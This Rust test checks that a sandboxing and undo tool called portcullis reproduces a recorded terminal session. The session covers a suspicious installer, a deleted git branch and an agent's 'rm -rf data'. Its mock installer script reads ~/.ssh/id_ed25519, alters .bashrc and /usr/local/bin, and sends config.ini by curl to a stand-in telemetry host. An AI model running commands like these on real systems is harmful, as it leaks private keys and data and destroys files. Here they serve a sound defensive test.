//! The three stories of `docs/try.md`, each run from its beginning to its end: what a person types and what the terminal says is
//! `docs/try.film.txt`. Owns that the film is real: names, times and the home directory are put in place of those of the run, and nothing else.
//! `PORTCULLIS_REWRITE=1` writes it anew.

use std::{
    fs,
    path::Path,
    process::{Command, Stdio},
};

use serde_json::json;
use tempfile::TempDir;

use crate::Place;

/// The film, from this crate.
const FILM: &str = "../../docs/try.film.txt";

/// Names and times that stand for those of a run.
const NAMES: [&str; 8] = [
    "5b3d7fb6", "366b7500", "e69ac45f", "21b5e13e", "1f2e3d4c", "0c77a812", "b4410f9e", "73dd0a25",
];
const TIME: &str = "2026-11-29T12:00:00";

/// Programs that the stories take beside a shell.
const NEEDED: [&str; 3] = ["/usr/bin/curl", "/usr/bin/git", "/usr/bin/sed"];

/// What a person was told to run.
const INSTALLER: &str = "set -e
mkdir -p ~/.local/bin
cat > ~/.local/bin/tool <<'END'
#!/bin/sh
echo tool
END
chmod 755 ~/.local/bin/tool
echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc
sed -i s/slow/fast/ config.ini
cat ~/.ssh/id_ed25519 2>/dev/null || true
cp ~/.local/bin/tool /usr/local/bin/tool 2>/dev/null || true
curl -sS --max-time 5 -d @config.ini https://telemetry.example/ 2>/dev/null || true
";

/// A terminal, with what was typed and what came of it.
struct Terminal {
    place: Place,
    _state: TempDir,
    text: String,
}

impl Terminal {
    fn new() -> Self {
        let state = TempDir::new().unwrap();
        let program = Path::new(env!("CARGO_BIN_EXE_portcullis")).parent().unwrap().to_owned();
        let place = Place::recorded()
            .with("PATH", &format!("{}:/usr/bin", program.to_str().unwrap()))
            .with("TZ", "UTC")
            .with("PORTCULLIS_STATE_DIR", state.path().join("own").to_str().unwrap());
        let project = place.home.path().join("app");
        fs::create_dir(&project).unwrap();
        Self { place, _state: state, text: String::new() }
    }

    fn project(&self) -> std::path::PathBuf {
        self.place.home.path().canonicalize().unwrap().join("app")
    }

    fn title(&mut self, words: &str) {
        self.text.push_str(&format!("# {words}\n\n"));
    }

    /// Types a line, and shows what it says. The exit code is the answer.
    fn types(&mut self, line: &str) -> i32 {
        let mut command = self.place.command_of("/bin/sh");
        command.args(["-c", &format!("{{ {line}\n}} 2>&1")]).current_dir(self.project());
        let ended = Place::ended(command, b"");
        self.text.push_str(&format!("$ {line}\n{}", ended.out));
        if ended.code != 0 {
            self.text.push_str(&format!("[exit {}]\n", ended.code));
        }
        self.text.push('\n');
        ended.code
    }

    /// What happened before the story begins.
    fn before(&self, script: &str) {
        let mut command = self.place.command_of("/bin/sh");
        command.args(["-c", script]).current_dir(self.project()).stdout(Stdio::null());
        assert!(command.status().unwrap().success(), "{script}");
    }
}

/// The film of a run, with the names and times that it has in the document.
fn told(text: &str, home: &str) -> String {
    let text = text.replace(home, "/home/dev");
    let mut film = String::new();
    let mut known: Vec<String> = Vec::new();
    let is_part = |letter: char| letter.is_ascii_alphanumeric() || ":.-".contains(letter);
    let mut rest = text.as_str();
    while !rest.is_empty() {
        let end = rest.find(|letter| !is_part(letter)).unwrap_or(rest.len());
        // What ends a sentence is no part of a name.
        let (word, after) =
            rest.split_at(rest[..end].trim_end_matches(|end| ":.-".contains(end)).len());
        let is_time = word.len() >= 19 && word.as_bytes().get(10) == Some(&b'T');
        let is_name = word.len() == 8 && word.bytes().all(|byte| byte.is_ascii_hexdigit());
        let is_long = word.parse::<f64>().is_ok() && word.contains('.') && after.starts_with(" s;");
        if is_time {
            film.push_str(TIME);
            film.push_str(if word.ends_with('Z') { "Z" } else { "" });
        } else if is_name {
            let at = known.iter().position(|one| one == word).unwrap_or_else(|| {
                known.push(word.to_owned());
                known.len() - 1
            });
            film.push_str(NAMES.get(at).unwrap());
        } else if is_long {
            film.push_str("0.1");
        } else {
            film.push_str(word);
        }
        let is_letter = |letter: char| letter.is_ascii_alphanumeric();
        let next = after.find(is_letter).unwrap_or(after.len());
        film.push_str(&after[..next]);
        rest = &after[next..];
    }
    film
}

fn installer(terminal: &mut Terminal) {
    let home = terminal.place.home.path().to_owned();
    fs::create_dir(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_ed25519"), "the key").unwrap();
    fs::write(terminal.project().join("config.ini"), "mode = slow\n").unwrap();
    fs::write(terminal.project().join("install.sh"), INSTALLER).unwrap();
    terminal.title("An installer that you were told to run");
    assert_eq!(terminal.types("portcullis try -- sh install.sh"), 0);
    assert_eq!(terminal.types("cat config.ini"), 0);
    assert_eq!(terminal.types("portcullis try --trial last --commit"), 3);
    assert_eq!(terminal.types("portcullis try --trial last --commit config.ini"), 0);
    assert_eq!(terminal.types("cat config.ini"), 0);
    assert_eq!(terminal.types("portcullis try --trial last --discard"), 0);
    assert!(!home.join(".bashrc").exists() && !home.join(".local/bin").exists());
}

fn branch(terminal: &mut Terminal) {
    terminal.before(
        "export GIT_AUTHOR_NAME=dev GIT_COMMITTER_NAME=dev GIT_AUTHOR_EMAIL=dev@example.org GIT_COMMITTER_EMAIL=dev@example.org
         rm -f install.sh && git init -q -b main . && git add -A && git commit -qm one && git branch idea && echo 'mode = faster' > config.ini",
    );
    terminal.title("A branch that was deleted, work that was not committed");
    for line in ["git reset -q --hard", "git branch -q -D idea"] {
        let line = format!("portcullis sandbox run --waive protected -- {line}");
        assert_eq!(terminal.types(&line), 0);
    }
    assert_eq!(terminal.types("git branch; cat config.ini"), 0);
    assert_eq!(terminal.types("portcullis undo"), 0);
    assert_eq!(terminal.types("portcullis undo"), 0);
    assert_eq!(terminal.types("git branch; cat config.ini"), 0);
}

fn agent(terminal: &mut Terminal) {
    let project = terminal.project();
    fs::create_dir(project.join("data")).unwrap();
    fs::write(project.join("data/x"), "never committed\n").unwrap();
    let payload = |event: &str| {
        json!({"session_id": "s1", "transcript_path": "/tmp/t", "cwd": project, "permission_mode": "default",
            "hook_event_name": event, "tool_name": "Bash", "tool_input": {"command": "rm -rf data"}})
        .to_string()
    };
    terminal.title("An agent that deleted the wrong directory");
    let hook = |event: &str| {
        let ended = terminal.place.hook("claude", payload(event).as_bytes());
        assert_eq!(ended.code, 0, "{}", ended.page());
    };
    // What the agent's hook is asked, and what the agent does then.
    hook("PreToolUse");
    fs::remove_dir_all(project.join("data")).unwrap();
    hook("PostToolUse");
    assert_eq!(terminal.types("ls data"), 2);
    assert_eq!(terminal.types("portcullis undo --session s1 --show"), 0);
    assert_eq!(terminal.types("portcullis undo --session s1"), 0);
    assert_eq!(terminal.types("cat data/x"), 0);
    assert_eq!(terminal.types("portcullis audit list"), 0);
}

#[test]
fn the_three_stories_are_what_the_film_shows() {
    if let Some(missing) = NEEDED.iter().find(|program| !Path::new(program).exists()) {
        return eprintln!("skipped: there is no `{missing}`");
    }
    let mut probe = Terminal::new();
    if probe.types("portcullis try --network off --discard -- true") != 0 {
        return eprintln!("skipped: {}", probe.text);
    }
    // Which of its files git touches is a matter of its version.
    let version = Command::new("git").arg("--version").output().unwrap().stdout;
    let version = format!("# with {}\n", String::from_utf8(version).unwrap());
    let mut terminal = Terminal::new();
    installer(&mut terminal);
    branch(&mut terminal);
    agent(&mut terminal);
    let home = terminal.place.home.path().canonicalize().unwrap();
    let film = version.clone() + &told(&terminal.text, home.to_str().unwrap());
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(FILM);
    if std::env::var_os("PORTCULLIS_REWRITE").is_some() {
        fs::write(&path, &film).unwrap();
    }
    let shown = fs::read_to_string(&path).unwrap();
    if !shown.starts_with(&version) {
        return eprintln!("the film was made with another git, and is not compared");
    }
    assert_eq!(film, shown, "run it with PORTCULLIS_REWRITE=1 where the change is meant");
}
